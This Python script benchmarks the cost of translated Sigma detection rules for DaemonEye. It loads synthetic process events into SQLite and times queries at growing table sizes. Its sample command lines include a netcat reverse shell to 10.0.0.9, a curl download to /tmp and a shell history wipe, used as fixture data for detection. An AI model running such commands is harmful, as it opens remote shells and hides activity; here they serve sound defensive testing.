#!/usr/bin/env python3
"""What a translated Sigma rule costs as process_events grows.

usage: bench/daemoneye/sigma_window.py DAEMONEYE_CLI RULE.yml [RULE.yml...]

Builds process_events (the store's columns and time index) in a temp dir
with 1,000 events in the scan window and 0, 100,000 and 1,000,000 older
events outside it, and times each rule's translation (`daemoneye-cli rules
translate`) and the same query without its scan window, run by the system's SQLite (the library the agent links) via
Python's sqlite3: min and median of 21 runs. A rule using regexp() runs
with Python's `re` standing in for PCRE2 (slower, only on window rows).
"""
import os, re, sqlite3, statistics, subprocess, sys, tempfile, time

SCHEMA = """
CREATE TABLE process_events (
  id INTEGER PRIMARY KEY, time INTEGER NOT NULL, event TEXT NOT NULL, source TEXT NOT NULL,
  pid INTEGER, parent INTEGER, name TEXT, path TEXT, cmdline TEXT, cwd TEXT,
  uid INTEGER, euid INTEGER, gid INTEGER, egid INTEGER, username TEXT, auid INTEGER,
  sha256 TEXT, start_time INTEGER, parent_path TEXT, parent_cmdline TEXT,
  time_ns INTEGER, cmdline_size INTEGER, overflows TEXT, exit_code INTEGER, exit_signal INTEGER,
  cgroup_id INTEGER);
CREATE INDEX process_events_time ON process_events(time);
CREATE TABLE scans (id INTEGER PRIMARY KEY, scan_id INTEGER NOT NULL, time INTEGER NOT NULL);
CREATE INDEX scans_time ON scans(time);
"""
CMDS = ["/usr/bin/python3 -m http.server 8000", "nc -zv 10.0.0.1 22", "curl -fsSL https://example.org/x -o /tmp/x",
        "bash -c make -j4", "/usr/sbin/sshd -D", "ls -la /var/log", "git status", "nc -e /bin/sh 10.0.0.9 4444",
        "bash -c history -c"]


def fill(db, old, recent):
    """`old` events a day back, then `recent` ones within the last minute of
    the time they are written (a slow insert of the old ones must not push
    the recent ones out of the window)."""
    sql = ("INSERT INTO process_events (time, event, source, pid, parent, name, path, cmdline, cwd, uid, "
           "username, auid, sha256, start_time, parent_path, parent_cmdline) VALUES (?,?,?,?,?,?,?,?,?,?,?,?,?,?,?,?)")

    def row(i, t):
        c = CMDS[i % len(CMDS)]
        exe = c.split()[0].split("/")[-1]
        return (t, "exec", "ebpf", 10000 + i, 1, exe, "/usr/bin/" + exe, c, "/", 1000, "alice", 1000, "a" * 64, i,
                "/usr/bin/bash", "bash")

    now = int(time.time())
    db.executemany(sql, (row(i, now - 86400 - i) for i in range(old)))
    now = int(time.time())
    db.executemany(sql, (row(old + i, now - (i % 60)) for i in range(recent)))
    db.execute("INSERT INTO scans (scan_id, time) VALUES (1, ?)", (now - 30,))
    db.commit()


def main():
    cli, rules = sys.argv[1], sys.argv[2:]
    sqls = {}
    for r in rules:
        out = subprocess.run([cli, "rules", "translate", r], check=True, capture_output=True, text=True).stdout
        sql = "\n".join(l for l in out.splitlines() if not l.startswith("-- "))
        sqls[os.path.basename(r)] = sql
        # The same rule without the scan window: what it would cost unbounded.
        sqls[os.path.basename(r) + " (no window)"] = "\n".join(l for l in sql.splitlines() if "FROM scans" not in l)
    print(f"{'rule':52} {'old events':>11} {'rows':>5} {'min ms':>8} {'median ms':>10}")
    for old in (0, 100_000, 1_000_000):
        with tempfile.TemporaryDirectory() as d:
            db = sqlite3.connect(os.path.join(d, "e.db"))
            db.create_function("regexp", 2, lambda p, v: None if v is None else int(re.search(p, v) is not None),
                               deterministic=True)
            # The translation's form: regexp(pattern, value, answer at a PCRE2 limit).
            db.create_function("regexp", 3, lambda p, v, _: None if v is None else int(re.search(p, v) is not None),
                               deterministic=True)
            db.executescript(SCHEMA)
            fill(db, old, 1000)
            for name, sql in sqls.items():
                times, n = [], 0
                for _ in range(21):
                    t0 = time.perf_counter()
                    n = len(db.execute(sql).fetchall())
                    times.append((time.perf_counter() - t0) * 1000)
                print(f"{name:52} {old:>11} {n:>5} {min(times):>8.3f} {statistics.median(times):>10.3f}")
            db.close()


if __name__ == "__main__":
    main()
